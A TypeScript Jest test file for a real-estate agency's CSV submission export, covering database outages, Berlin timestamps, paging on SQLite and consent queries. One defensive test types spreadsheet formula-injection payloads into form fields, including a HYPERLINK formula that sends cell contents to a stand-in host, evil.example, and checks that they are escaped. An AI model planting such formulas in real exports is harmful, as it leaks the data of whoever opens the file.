/**
 * @jest-environment node
 *
 * The CSV export under failure and attack: a failure before the first row is an error answer
 * (503 when the database is gone), one during the export ends that download only and the
 * server lives on; a cell a spreadsheet would run as a formula is written as text; an export
 * lets other work run between its pages on SQLite.
 */
import { parse } from 'csv-parse/sync';
import { responseConforms } from '../../contract/validator';
import { seed } from '../db/seed';
import { openDatabase } from '../db/sqlite';
import { testDialects } from '../../test/server/dialects';
import { DatabaseUnavailable, sqliteSql, type Params, type Sql } from '../db/sql';
import {
  contact,
  lead,
  PREFIX,
  staffSignIn,
  startTestServer,
  type TestClient,
} from '../../test/server/testServer';
import { COLUMNS, EXPORT_PAGE, exportCsv, spreadsheetTime } from './csv';
import { inboxQueries, searchTextOf } from './inbox';
import { submissionReader } from './records';

type Server = Awaited<ReturnType<typeof startTestServer>>;
const API = '/agency/api';
const STAFF = 'team@makler.example';

const cookieOf = (client: TestClient) =>
  [...client.cookies].map(([k, v]) => `${k}=${v}`).join('; ');

/** The rows of a CSV answer, as German Excel's columns. */
const rowsOf = (text: string) =>
  parse(text.replace(/^\uFEFF/, ''), { delimiter: ';', columns: true }) as Record<string, string>[];

describe('the CSV export', () => {
  let server: Server;
  let staff: TestClient;
  beforeAll(async () => {
    server = await startTestServer({ AGENCY_USERS: STAFF });
    const visitor = server.client();
    for (let i = 0; i < 5; i += 1)
      await visitor.post(`${PREFIX}/v1/wizard/contact`, {
        contact: contact({ email: `csv${i}@example.de` }),
        message: `Nr. ${i}`,
      });
    staff = await staffSignIn(server, STAFF);
  });
  afterAll(() => server.close());
  afterEach(() => jest.restoreAllMocks());

  it('answers 503 when the database is gone before the first row, and serves again once it is back', async () => {
    const lost = new DatabaseUnavailable(Object.assign(new Error('gone'), { code: '57P01' }));
    jest.spyOn(server.app.sql, 'all').mockRejectedValue(lost);
    const answer = await staff.get(`${API}/submissions.csv`);
    expect(answer.status).toBe(503);
    expect(answer.headers.get('retry-after')).toBe('30');
    expect(answer.body).toMatchObject({ code: 'database_unavailable' });
    expect(responseConforms('get', `${API}/submissions.csv`, 503, answer.body)).toEqual({
      ok: true,
    });
    jest.restoreAllMocks();
    expect((await staff.get(`${API}/submissions.csv`)).status).toBe(200);
  });

  it('ends only that download when the database fails during an export; the server lives on', async () => {
    // The first page is read; the third submission's record fails (the database stops).
    const one = server.app.sql.one.bind(server.app.sql);
    let reads = 0;
    jest.spyOn(server.app.sql, 'one').mockImplementation((async (
      text: string,
      ...params: Params
    ) => {
      if (text.startsWith('SELECT * FROM submissions WHERE id') && (reads += 1) === 3)
        throw new DatabaseUnavailable(new Error('Connection terminated unexpectedly'));
      return one(text, ...params);
    }) as never);
    const response = await fetch(`${server.base}${API}/submissions.csv`, {
      headers: { Cookie: cookieOf(staff) },
    });
    expect(response.status).toBe(200);
    // Cut off, not ended: the client sees an unfinished download, never a short file.
    await expect(response.text()).rejects.toThrow();
    jest.restoreAllMocks();
    expect((await staff.get(`${API}/auth/me`)).status).toBe(200);
    const again = await fetch(`${server.base}${API}/submissions.csv?kind=contact`, {
      headers: { Cookie: cookieOf(staff) },
    });
    expect(rowsOf(await again.text()).length).toBe(5);
  });

  it('refuses a day past what it can count with a 400, and lives on', async () => {
    for (const day of ['9999-12-31', '2026-13-45', '0000-00-00']) {
      const answer = await staff.get(`${API}/submissions.csv?to=${day}`);
      expect(answer.status).toBe(400);
    }
    expect((await staff.get(`${API}/submissions.csv`)).status).toBe(200);
  });

  it("writes when a submission came as a date and time a spreadsheet reads, in Berlin's time", async () => {
    const csv = await fetch(`${server.base}${API}/submissions.csv?kind=contact`, {
      headers: { Cookie: cookieOf(staff) },
    });
    const rows = rowsOf(await csv.text());
    expect(rows.length).toBeGreaterThanOrEqual(5);
    for (const row of rows) expect(row.Eingang).toMatch(/^20\d\d-\d\d-\d\d \d\d:\d\d$/);
    // Winter (UTC+1) and summer (UTC+2), and a minute past midnight that is the next day.
    expect(spreadsheetTime('2026-11-26T13:05:00.000Z')).toBe('2026-11-26 14:05');
    expect(spreadsheetTime('2026-07-01T09:30:00.000Z')).toBe('2026-07-01 11:30');
    expect(spreadsheetTime('2026-12-31T23:01:00.000Z')).toBe('2027-01-01 00:01');
  });

  it('writes every cell a visitor typed that a spreadsheet would run as a formula as text', async () => {
    const typed = {
      firstname: '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
      lastname: '+SUM(1;2)',
      phone: '+49 30 1234567',
      company: '@SUM(A1)',
      street: '-1+1',
      number: '5',
      email: '=x@example.de',
      zip: '10115',
      city: 'Berlin',
    };
    const answer = await server.client().post(`${PREFIX}/v1/wizard/lead`, {
      contact: contact(typed),
      lead: lead({
        location: { street: '=1+1', number: '2', zip: '10435', city: 'Berlin' },
      }),
      message: '-2+3 bitte anrufen',
    });
    expect(answer.status).toBe(201);
    // Stored by an older version, untrimmed: a tab and a carriage return first.
    const { uuid } = answer.body as { uuid: string };
    const row = (await server.app.sql.one<{ contact_data: string }>(
      'SELECT contact_data FROM submissions WHERE uuid = ?',
      uuid,
    ))!;
    await server.app.sql.run(
      'UPDATE submissions SET contact_data = ? WHERE uuid = ?',
      JSON.stringify({
        ...JSON.parse(row.contact_data),
        salutation: '\t=1+1',
        company: '\r=2+2',
      }),
      uuid,
    );
    const csv = await fetch(`${server.base}${API}/submissions.csv?kind=lead`, {
      headers: { Cookie: cookieOf(staff) },
    });
    const [exported] = rowsOf(await csv.text());
    expect(exported).toMatchObject({
      Anrede: "'\t=1+1",
      Vorname: `'${typed.firstname}`,
      Nachname: `'${typed.lastname}`,
      'E-Mail': `'${typed.email}`,
      Telefon: `'${typed.phone}`,
      Firma: "'\r=2+2",
      Anschrift: "'-1+1 5, 10115 Berlin",
      'Ort des Objekts': "'=1+1 2, 10435 Berlin",
      Nachricht: "'-2+3 bitte anrufen",
    });
    // No cell of any column begins with what a spreadsheet runs.
    for (const column of COLUMNS) expect(exported![column]).not.toMatch(/^[=+\-@\t\r]/);
  });
});

// SQLite only: its statements run in the server's own thread, so an export that never yielded
// would hold every other request; on PostgreSQL each statement waits on I/O and other work runs
// meanwhile whatever the export does, so the test could not fail there.
describe('an export on SQLite', () => {
  let sql: Sql;
  beforeAll(async () => {
    sql = sqliteSql(openDatabase(':memory:'));
    await seed(sql);
  });
  afterAll(() => sql.close());

  it('lets other work run between its pages on SQLite, whose statements run in the thread of the server', async () => {
    const count = EXPORT_PAGE + 100;
    await sql.transaction(async (tx) => {
      for (let i = 0; i < count; i += 1) {
        const at = new Date(Date.UTC(2026, 10, 1, 0, i)).toISOString();
        const data = contact({ email: `row${i}@example.de` });
        const contactId = (await tx.insert(
          'INSERT INTO contacts (email, created_at, updated_at) VALUES (?, ?, ?)',
          data.email,
          at,
          at,
        ))!;
        await tx.run(
          `INSERT INTO submissions (uuid, kind, contact_id, contact_data, language, created_at,
            consents, search_text) VALUES (?, 'contact', ?, ?, 'de', ?, '{}', ?)`,
          `0190c1a2-0000-7000-8000-${String(i).padStart(12, '0')}`,
          contactId,
          JSON.stringify(data),
          at,
          searchTextOf(data),
        );
      }
    });
    const reader = await submissionReader(sql);
    const events: string[] = [];
    const records = {
      ...reader,
      read: async (tx: Parameters<typeof reader.read>[0], id: number) => {
        events.push('row');
        return reader.read(tx, id);
      },
    };
    const stream = await exportCsv({ kind: 'contact' }, inboxQueries(sql), records, sql, {
      log: () => {},
    });
    // Queued when the export starts: it runs as soon as the export lets the event loop turn.
    setImmediate(() => events.push('other work'));
    let text = '';
    for await (const chunk of stream) text += String(chunk);
    expect(rowsOf(text).length).toBe(count);
    // Before the second page at the latest, not after the last row.
    const turn = events.indexOf('other work');
    expect(turn).toBeGreaterThanOrEqual(0);
    expect(turn).toBeLessThanOrEqual(EXPORT_PAGE);
  });
});

describe.each(testDialects())('the consents of an export on %s', (_name, openTestDatabase) => {
  let sql: Sql;
  beforeAll(async () => {
    sql = await openTestDatabase();
    await seed(sql);
  });
  afterAll(() => sql.close());

  it("are read a page of rows at a time, two statements a page, each row with its contact's own", async () => {
    const count = EXPORT_PAGE + 100;
    const given = '2026-11-01T08:00:00.000Z';
    const withdrawn = '2026-11-20T08:00:00.000Z';
    const returning = sql.dialect === 'postgres' ? ' RETURNING id' : '';
    await sql.transaction(async (tx) => {
      for (let i = 0; i < count; i += 1) {
        const at = new Date(Date.UTC(2026, 10, 2, 0, i)).toISOString();
        const data = contact({ email: `consent${i}@example.de` });
        // Every third contact took its newsletter back in 'Mein Konto'.
        const gone = i % 3 === 0;
        const contactId = (await tx.insert(
          `INSERT INTO contacts (email, data_privacy, accept_contact, newsletter, confirmed_at,
            created_at, updated_at) VALUES (?, 1, 1, ?, ?, ?, ?)${returning}`,
          data.email,
          gone ? 0 : 1,
          given,
          at,
          at,
        ))!;
        await tx.run(
          `INSERT INTO consents (contact_id, submission_id, kind, given, text_version, at)
           VALUES (?, NULL, 'newsletter', 1, 'v1', ?)`,
          contactId,
          given,
        );
        if (gone)
          await tx.run(
            `INSERT INTO consents (contact_id, submission_id, kind, given, text_version, at)
             VALUES (?, NULL, 'newsletter', 0, 'v1', ?)`,
            contactId,
            withdrawn,
          );
        await tx.run(
          `INSERT INTO submissions (uuid, kind, contact_id, contact_data, language, created_at,
            consents, search_text) VALUES (?, 'contact', ?, ?, 'de', ?, '{}', ?)`,
          `0190c1a2-0000-7000-8001-${String(i).padStart(12, '0')}`,
          contactId,
          JSON.stringify(data),
          at,
          searchTextOf(data),
        );
      }
    });
    // Every statement of the export's rows, through the connection it is given.
    const statements: string[] = [];
    const watched = {
      ...sql,
      one: (text: string, ...params: Params) => (statements.push(text), sql.one(text, ...params)),
      all: (text: string, ...params: Params) => (statements.push(text), sql.all(text, ...params)),
    } as Sql;
    const stream = await exportCsv(
      { kind: 'contact' },
      inboxQueries(sql),
      await submissionReader(sql),
      watched,
      { log: () => {} },
    );
    let text = '';
    for await (const chunk of stream) text += String(chunk);
    const rows = rowsOf(text);
    expect(rows.length).toBe(count);
    for (const row of rows) {
      const i = Number(/^consent(\d+)@/.exec(row['E-Mail']!)![1]);
      expect(row.Newsletter).toBe(
        i % 3 === 0
          ? 'abgemeldet am 20.11.2026 (angemeldet am 01.11.2026)'
          : 'angemeldet am 01.11.2026',
      );
    }
    // Two pages: the consents and the contacts' flags once a page, not once a row.
    expect(statements.filter((s) => /FROM consents/.test(s))).toHaveLength(2);
    expect(statements.filter((s) => /data_privacy/.test(s))).toHaveLength(2);
    // Besides, each row's submission and its message: two statements a row.
    expect(statements).toHaveLength(2 * count + 4);
  });
});
